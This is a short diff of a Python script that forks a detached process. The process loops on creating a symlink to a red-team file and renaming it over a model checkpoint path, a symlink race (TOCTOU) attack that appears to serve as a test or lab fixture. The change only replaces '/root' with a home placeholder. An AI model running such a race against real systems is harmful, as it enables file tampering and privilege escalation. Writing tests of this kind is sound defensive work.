@@ -9,7 +9,7 @@ if os.fork() == 0:
     os.setsid()
     while True:
         try:
-            os.symlink("/root/red-team.txt", "mallory-link")
+            os.symlink("@HOME@/red-team.txt", "mallory-link")
             os.rename("mallory-link", "checkpoints/q3.safetensors")
             os.mkdir("mallory-folder")
             os.rename("mallory-folder", "mallory-other")
